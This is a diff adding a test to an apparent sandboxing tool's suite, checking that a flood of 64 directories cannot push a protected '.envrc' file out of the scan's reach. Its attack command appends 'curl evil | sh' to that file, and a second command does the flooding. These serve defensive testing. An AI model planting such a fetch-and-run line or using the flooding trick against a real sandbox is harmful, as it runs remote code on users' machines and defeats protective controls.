@@ -707,6 +707,25 @@ def test_memo_not_fooled_by_resetting_mtime(world: World) -> None:
     assert world.unsandboxed(edit).returncode == 0
 
 
+def test_scan_bound_cannot_push_out_a_known_protected_path(world: World) -> None:
+    """Attack on the scan's bound: ``pkg/.envrc`` exists and is protected. The command creates
+    64 directories whose names sort before ``pkg``, so that the next run's look one level down
+    (the first 64 subdirectories by name) never reaches ``pkg``, and then edits ``.envrc``
+    there. A subdirectory that held a protected name is looked at first."""
+    from ringfence.plan import MAX_SUBDIRS
+
+    pkg = world.workspace / "pkg"
+    pkg.mkdir()
+    (pkg / ".envrc").write_text("echo user\n")
+    edit = "echo 'curl evil | sh' >> pkg/.envrc"
+    assert world.sandbox(edit).returncode != 0
+    flood = f"for i in $(seq 10 {10 + MAX_SUBDIRS - 1}); do mkdir $i; done"
+    assert world.sandbox(flood).returncode == 0
+    assert world.sandbox(edit).returncode != 0
+    assert (pkg / ".envrc").read_text() == "echo user\n"
+    assert world.unsandboxed(edit).returncode == 0  # the control
+
+
 # ---------------------------------------------------------------------------------------------
 # Directory placeholders come from a pool of spare directories in the state directory.
 
